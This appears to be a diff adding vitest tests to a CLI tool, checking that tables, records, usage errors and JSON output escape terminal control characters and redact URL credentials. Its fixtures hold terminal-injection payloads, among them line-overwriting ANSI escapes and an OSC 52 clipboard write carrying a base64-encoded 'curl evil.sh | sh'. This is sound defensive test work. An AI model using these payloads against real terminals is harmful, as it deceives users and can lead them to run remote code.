@@ -1,7 +1,8 @@
 import type { Command } from 'commander';
-import { describe, expect, it } from 'vitest';
-import { parseDuration, parseSecondsOrDuration, table } from '../src/cli/toolgate/format.js';
+import { describe, expect, it, vi } from 'vitest';
+import { parseDuration, parseSecondsOrDuration, record, table } from '../src/cli/toolgate/format.js';
 import { toolgateProgram } from '../src/cli/toolgate/program.js';
+import { jsonText, printable, printableLines } from '../src/cli/toolgate/terminal.js';
 
 const everyCommand = (cmd: Command, path: string[] = []): Array<{ path: string; cmd: Command }> => [
   { path: [...path, cmd.name()].join(' '), cmd },
@@ -97,5 +98,71 @@ describe('tables', () => {
         ],
       ),
     ).toBe(['ID      STATUS  BY', 'grt_1   live    {"actor_id":"a"}', 'grt_22  -       -'].join('\n'));
+  });
+});
+
+describe('what reaches a terminal', () => {
+  // Erase the line, go up one and write over it; set the clipboard (OSC 52); CSI as one C1 byte;
+  // a right-to-left override; a newline and a carriage return.
+  const forgedId = 'web.fetch\u001b[2K\u001b[1A\rforged';
+  const clipboard = 'r\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
+  const reversed = 'copy \u009b31m \u202eevil\nsecond line\u007f';
+  // Any control character but the newlines between lines.
+  const raw = /[^\n\P{Cc}]|\p{Bidi_Control}/u;
+
+  it('is escaped in tables and records: every value stays on its line, no control character is obeyed', () => {
+    const rows = table(['ID', 'REASON', 'COPY'], [[forgedId, clipboard, reversed]]);
+    expect(rows).not.toMatch(raw);
+    expect(rows.split('\n')).toHaveLength(2);
+    expect(rows).toContain('web.fetch\\u001b[2K\\u001b[1A\\rforged');
+    expect(rows).toContain('r\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007');
+    expect(rows).toContain('copy \\u009b31m \\u202eevil\\nsecond line\\u007f');
+    const fields = record({ tool_id: forgedId, reason: clipboard, details: { copy: reversed } });
+    expect(fields).not.toMatch(raw);
+    expect(fields.split('\n')).toHaveLength(3);
+  });
+
+  it("never shows a URL's user and password", () => {
+    expect(printable('cannot reach the gateway at http://alice:s3cret@127.0.0.1:1/tools: ECONNREFUSED')).toBe(
+      'cannot reach the gateway at http://***@127.0.0.1:1/tools: ECONNREFUSED',
+    );
+    expect(table(['URL'], [['https://a@b:c@backend.example/x?to=me@here']])).toBe(
+      'URL\nhttps://***@backend.example/x?to=me@here',
+    );
+    expect(printable('mailto:ops@example.com https://example.com/@team')).toBe(
+      'mailto:ops@example.com https://example.com/@team',
+    );
+  });
+
+  it('is escaped in usage errors, which quote the arguments a script may have taken from anywhere', async () => {
+    let written = '';
+    const write = vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => {
+      written += String(chunk);
+      return true;
+    });
+    try {
+      await expect(
+        toolgateProgram().parseAsync(['node', 'toolgate', 'tools', 'list', `--x${clipboard}`]),
+      ).rejects.toThrow();
+    } finally {
+      write.mockRestore();
+    }
+    expect(written).toContain("unknown option '--xr\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007'");
+    expect(written).not.toMatch(raw);
+  });
+
+  it('keeps the lines a command makes, and escapes what is inside them', () => {
+    expect(printableLines(`stopped by ks_1: "${clipboard}"\n\nID`)).toBe(
+      'stopped by ks_1: "r\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007"\n\nID',
+    );
+  });
+
+  it('leaves --json the same JSON value, with C1, DEL and bidi controls escaped as JSON.stringify does not', () => {
+    const value = { id: forgedId, reason: clipboard, copy: reversed, nested: [{ at: '\u2028' }] };
+    expect(JSON.stringify(value)).toMatch(/[\u009b\u202e\u007f]/);
+    const text = jsonText(value, 2);
+    expect(text).not.toMatch(raw);
+    expect(text).not.toContain('\u2028');
+    expect(JSON.parse(text)).toEqual(value);
   });
 });
